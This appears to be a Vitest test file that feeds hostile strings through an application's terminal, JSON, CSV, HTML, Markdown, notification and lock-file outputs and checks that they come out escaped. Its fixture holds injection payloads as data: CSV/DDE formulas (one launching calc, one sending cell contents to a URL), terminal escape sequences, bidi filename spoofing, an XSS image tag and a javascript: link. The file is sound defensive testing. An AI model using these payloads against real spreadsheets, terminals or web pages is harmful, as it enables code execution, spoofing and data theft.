import { describe, expect, it } from 'vitest'
import { RunConfig } from '../../core/config/config'
import { csvCell } from '../../core/csv'
import { noPoints, type Points } from '../../core/events'
import { titleOf } from '../../core/names'
import { newRun, type Run } from '../../core/run'
import { createTerminal } from '../../main/cli/terminal'
import { markdownTable } from '../../main/cli/sweepResults'
import { table } from '../../main/cli/format'
import { escaped } from '../../main/exports/escaped'
import { epochsCsv, traceCsv } from '../../main/exports/csv'
import { reportHtml } from '../../main/exports/report'
import { ownerFrom } from '../../main/files/lock'
import { notificationOf } from '../../main/electron/notification'
import { csvOfColumns } from '../../renderer/charts/csv'

/** What somebody else may have written where a name or a number belongs. */
const hostile: Readonly<Record<string, string>> = {
  'a formula': '=HYPERLINK("http://example.org/?"&A1,"x")',
  'a formula after a sign': "+cmd|' /C calc'!A0",
  'a formula after a minus': '-2+3+cmd|x',
  'an old formula': '@SUM(A1)',
  'a formula after a space': ' =1+1',
  'a colour': 'a\u001b[31mred',
  'a title': 'b\u001b]0;owned\u0007',
  'an 8-bit control': 'c\u009b31m',
  'a rewritten line': 'd\rover',
  'a backspace': 'e\u0008\u0008f',
  'turned-around text': 'g\u202Egnp.exe',
  'an isolate': 'h\u2066x\u2069',
  'a mark of direction': 'i\u200f\u061cj',
  'a hidden space': 'k\u200bl\u2060m\ufeff',
  'a line separator': 'n\u2028o',
  'a forged line': 'p\n[2030-01-01 00:00:00.000] [error] q',
  markup: '<img src=x onerror=alert(1)>"\'&',
  'a link': '[x](javascript:alert(1)) ![y](http://example.org) `z` *q* | <b>',
  'a prototype': '__proto__',
}
const strings = Object.entries(hostile)

const unseen = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]/

const at = '2030-01-02T03:04:05.678Z'
const runWith = (text: string): Run => ({
  ...newRun('0mtb2h3k4l5', at, RunConfig.parse({}), { type: 'weights', file: text, sha256: '' }),
  name: text,
  notes: text,
  tags: [text],
  message: text,
  status: 'failed',
  log: [{ at, update: 1, message: text }],
})

function shownBy(use: (terminal: ReturnType<typeof createTerminal>) => void): {
  readonly out: string
  readonly error: string
} {
  let [out, error] = ['', '']
  use(
    createTerminal(
      {
        write: (bytes: string | Uint8Array) => {
          out += String(bytes)
          return true
        },
      } as never,
      {
        write: (bytes: string | Uint8Array) => {
          error += String(bytes)
          return true
        },
        isTTY: false,
        columns: 80,
      } as never,
    ),
  )
  return { out, error }
}

/** The cells of a CSV file, as a reader that follows RFC 4180 sees them. */
const cellsOf = (csv: string): readonly string[] =>
  [...csv.matchAll(/"((?:[^"]|"")*)"(?:,|\r?\n|$)|([^",\r\n]*)(?:,|\r?\n|$)/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  )
const isFormula = (cell: string): boolean => /^\s*[=+\-@]|^[\t\r\n]/.test(cell) && !Number.isFinite(Number(cell))

describe.each(strings)('%s', (_, text) => {
  it('is text on a terminal, on both of its streams', () => {
    const { out, error } = shownBy((terminal) => {
      terminal.print(text)
      terminal.print(table(['name'], [[text]]))
      terminal.say(text)
      terminal.status(text)
    })
    expect(out + error).not.toMatch(unseen)
    expect(table(['name'], [[text]]).split('\n')).toHaveLength(2)
  })

  it('is a text in JSON that a terminal does not obey, and reads back as it is', () => {
    const { out } = shownBy((terminal) => terminal.printJson({ [text]: text }))
    expect(out.slice(0, -1)).not.toMatch(unseen)
    const read = JSON.parse(out) as Readonly<Record<string, string>>
    expect(Object.entries(read)).toEqual([[text, text]])
  })

  it('is no formula in CSV', () => {
    expect(isFormula(cellsOf(`${csvCell(text)}\n`)[0] ?? '')).toBe(false)
    const columns = cellsOf(csvOfColumns(Object.fromEntries([[text, [text, 1]]])))
    expect(columns.filter(isFormula)).toEqual([])
    const points: Points = {
      ...noPoints(),
      ...Object.fromEntries(Object.keys(noPoints()).map((column) => [column, [text]])),
    }
    expect(cellsOf(traceCsv(points)).filter(isFormula)).toEqual([])
    const { epochs: _epochs, ...rest } = runWith(text)
    const epoch = {
      epoch: text,
      moment: {},
      train: {},
      validation: null,
      learningRate: text,
      batchSize: text,
      seconds: text,
      distance: text,
    }
    expect(cellsOf(epochsCsv({ ...rest, epochs: [epoch] } as never)).filter(isFormula)).toEqual([])
  })

  it('is text in HTML and SVG', () => {
    expect(escaped(text)).not.toMatch(/[<>"']|[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
    const html = reportHtml([{ traced: { run: runWith(text), trace: noPoints() }, label: text }], {
      version: '0',
      at: new Date(at),
    })
    expect(html).not.toMatch(/<img|<a /i)
    expect(html).not.toMatch(unseen)
  })

  it('is one cell of a Markdown table, without a link, an image or markup', () => {
    const [, , row = ''] = markdownTable({ names: ['run', 'batch#'], rows: [[titleOf(runWith(text)), '1']] }).split(
      '\n',
    )
    expect(row.replace(/\\./g, '')).toMatch(/^\| [^|<>[\]`*]* \| 1 \|$/)
  })

  it('is one line in the name of a run, a dialog and a notification', () => {
    const { title, body } = notificationOf(runWith(text)) ?? { title: '', body: '\n' }
    expect(body).not.toMatch(/[<>\n]/)
    expect(body).not.toMatch(unseen)
    expect(title).toMatch(/^“.*” failed$/)
    expect(title).not.toMatch(unseen)
  })

  it('is one line in the name of who holds a lock', () => {
    const owner = ownerFrom(JSON.stringify({ pid: 7, token: 't', host: text, since: text }))
    for (const shown of [owner?.host, owner?.since]) {
      expect(shown).toBeDefined()
      expect(shown).not.toMatch(unseen)
      expect(shown).not.toContain('\n')
    }
  })
})

describe('numbers', () => {
  it('stay numbers in CSV, with their sign', () => {
    expect([-1.5, 0, 1e-7, -3e21, '-1.5', '+2', NaN, null, undefined].map(csvCell)).toEqual([
      '-1.5',
      '0',
      '1e-7',
      '-3e+21',
      '-1.5',
      '+2',
      '',
      '',
      '',
    ])
  })
})
